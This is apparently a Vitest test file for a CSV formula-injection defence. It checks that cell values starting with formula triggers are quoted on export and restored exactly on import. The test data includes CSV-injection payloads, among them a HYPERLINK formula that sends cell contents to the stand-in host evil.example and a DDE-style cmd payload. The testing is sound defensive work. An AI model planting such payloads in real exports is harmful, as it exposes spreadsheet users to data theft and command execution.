import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { defuseFormulaCell, restoreFormulaCell } from '../../src/csv-formula-cells.js';

describe('defuseFormulaCell / restoreFormulaCell', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"Patch")', `'=HYPERLINK("http://evil.example/?x="&A1,"Patch")`],
    ['+1+cmd|" /C calc"!A0', `'+1+cmd|" /C calc"!A0`],
    ['-2+3', `'-2+3`],
    ['@SUM(A1:A9)', `'@SUM(A1:A9)`],
    ['\t=1', `'\t=1`],
    ['\r=1', `'\r=1`],
    ['\uFF1D1+1', `'\uFF1D1+1`],
    ['\uFF20SUM(A1)', `'\uFF20SUM(A1)`],
    // A value that really starts with quotes before a trigger gets one more, so it imports unchanged.
    ["'=already", "''=already"],
    ["''@x", "'''@x"],
  ])('writes %j as %j and reads it back', (value, written) => {
    expect(defuseFormulaCell(value)).toBe(written);
    expect(restoreFormulaCell(written)).toBe(value);
  });

  it.each([
    ['-5'],
    ['-0.25'],
    ['2026-12-15'],
    ['2026-12-15..2027-01-05 freeze'],
    ["it's"],
    ["'quoted"],
    ["'"],
    ['a=b'],
    [''],
    ['sat,sun 22:00+4h UTC'],
  ])('leaves %j as it is both ways', (value) => {
    expect(defuseFormulaCell(value)).toBe(value);
    expect(restoreFormulaCell(value)).toBe(value);
  });

  it('reads a hand-written cell with a quote before a trigger as the spreadsheet showed it', () => {
    expect(restoreFormulaCell("'-5")).toBe('-5');
    expect(restoreFormulaCell("'=1+1")).toBe('=1+1');
  });

  it('round-trips any text, and what it writes never starts a formula', () => {
    const triggerish = fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", '\uFF1D', '5', 'a', '.');
    const text = fc.oneof(
      fc.string(),
      fc.array(triggerish, { maxLength: 6 }).map((chars) => chars.join('')),
    );
    fc.assert(
      fc.property(text, (value) => {
        const written = defuseFormulaCell(value);
        expect(restoreFormulaCell(written)).toBe(value);
        if (!/^-\d+(?:\.\d+)?$/.test(value)) expect(written).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
      }),
      { numRuns: 2_000 },
    );
  });
});
